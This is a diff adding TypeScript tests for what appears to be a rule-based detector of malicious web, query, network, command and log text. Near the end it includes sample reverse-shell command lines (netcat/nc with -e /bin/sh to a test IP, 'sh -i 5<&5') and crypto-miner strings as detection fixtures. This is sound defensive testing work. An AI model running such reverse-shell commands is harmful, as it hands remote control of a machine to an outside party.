@@ -1,0 +1,71 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import fc from 'fast-check';
+import { commandRules } from '../../src/score/rules/commands.ts';
+import { logRules } from '../../src/score/rules/log-lines.ts';
+import { lookAt } from '../../src/score/rules/look.ts';
+import { queryRules } from '../../src/score/rules/queries.ts';
+import { webRules } from '../../src/score/rules/web.ts';
+import { wireRules } from '../../src/score/rules/wire.ts';
+import { createWordFinder } from '../../src/score/rules/words.ts';
+
+describe('the words of the rules', () => {
+  const rules = [...webRules, ...queryRules, ...wireRules, ...commandRules, ...logRules];
+  const words = rules.flatMap((rule) => rule.words);
+
+  it('are found in one pass as by looking for each: at the ends, in any case, across each other', () => {
+    const owners = words.map((word) => [word]);
+    const finder = createWordFinder(owners);
+    const part = fc.oneof(
+      fc.constantFrom(...words),
+      fc.constantFrom(...words).map((word) => word.slice(0, -1).toUpperCase()),
+      fc.string({ maxLength: 6 }),
+    );
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
+        const text = parts.join('');
+        const found = finder.find(text);
+        const lower = text.toLowerCase();
+        owners.forEach(([word], at) => {
+          assert.equal(
+            ((found[at >>> 5]! >>> (at & 31)) & 1) === 1,
+            lower.includes(word!),
+            `${word} in ${text}`,
+          );
+        });
+      }),
+      { numRuns: 2_000, seed: 5 },
+    );
+  });
+
+  it('are lower case, of Latin-1, and of two characters and more', () => {
+    for (const word of words) {
+      assert.equal(word, word.toLowerCase());
+      assert.ok(word.length >= 2 && /^[\0-\xff]+$/.test(word), word);
+    }
+  });
+
+  it('let a rule without words be tried on every text', () => {
+    const always = rules.filter((rule) => rule.words.length === 0);
+    assert.ok(always.length > 0);
+    for (const rule of always) assert.ok(lookAt('').may(rule));
+    assert.ok(!lookAt('calm words').may(webRules[0]!));
+  });
+});
+
+describe('a text that a rule’s pattern matches', () => {
+  // What the patterns are for, in one line each where a rule was once tried on every text.
+  for (const [id, text] of [
+    ['reverse-shell', 'netcat 198.51.100.7 4444 -e /bin/sh'],
+    ['reverse-shell', 'nc -e /bin/sh 198.51.100.7 4444'],
+    ['reverse-shell', 'sh -i 5<&5'],
+    ['miner', 'ps | grep x[Mm]iner'],
+    ['miner', './x --donate-level 1'],
+  ] as const)
+    it(`has one of its words: ${text}`, () => {
+      const rule = commandRules.find((one) => one.id === id);
+      assert.ok(rule, id);
+      assert.match(text, rule.pattern);
+      assert.ok(lookAt(text).may(rule));
+    });
+});
